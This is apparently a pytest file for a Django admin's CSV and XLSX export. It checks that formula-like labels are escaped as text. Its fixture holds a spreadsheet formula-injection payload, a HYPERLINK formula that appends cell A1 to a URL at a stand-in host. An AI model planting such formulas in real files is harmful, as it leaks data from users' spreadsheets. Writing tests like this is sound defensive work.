"""The admin's bulk exports (django-import-export) guard spreadsheet cells like
every other download: a label typed as a formula arrives as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.bulk_formats import EXPORT_FORMATS
from indicators.models import CodeList

pytestmark = pytest.mark.django_db
FIELDS = ["code", "name_fa", "name_en", "description", "standard", "total_code", "header_aliases"]


def export(admin_client, file_format):
    data = {"format": EXPORT_FORMATS.index(file_format), "resource": 0}
    data |= {f"codelistresource_{name}": "on" for name in FIELDS}
    response = admin_client.post("/django-admin/indicators/codelist/export/", data)
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.fixture
def hostile_list(db):
    return CodeList.objects.create(
        code="evil", name_fa='=HYPERLINK("http://x.example/?"&A1,"بیشتر")', name_en="@SUM(1+1)", description="-5.5"
    )


def test_csv_export_from_the_admin_guards_formulas_and_keeps_numbers(admin_client, hostile_list):
    text = export(admin_client, EXPORT_FORMATS[0]).decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["code"] == "evil")
    assert row["name_fa"] == '\'=HYPERLINK("http://x.example/?"&A1,"بیشتر")'
    assert row["name_en"] == "'@SUM(1+1)"
    assert row["description"] == "-5.5"


def test_xlsx_export_from_the_admin_holds_text_not_formulas(admin_client, hostile_list):
    sheet = load_workbook(io.BytesIO(export(admin_client, EXPORT_FORMATS[1]))).active
    rows = [list(row) for row in sheet.iter_rows(min_row=2)]
    evil = next(row for row in rows if row[0].value == "evil")
    assert evil[1].data_type == "s" and evil[1].value.startswith("'=HYPERLINK")
    assert evil[2].value == "'@SUM(1+1)"
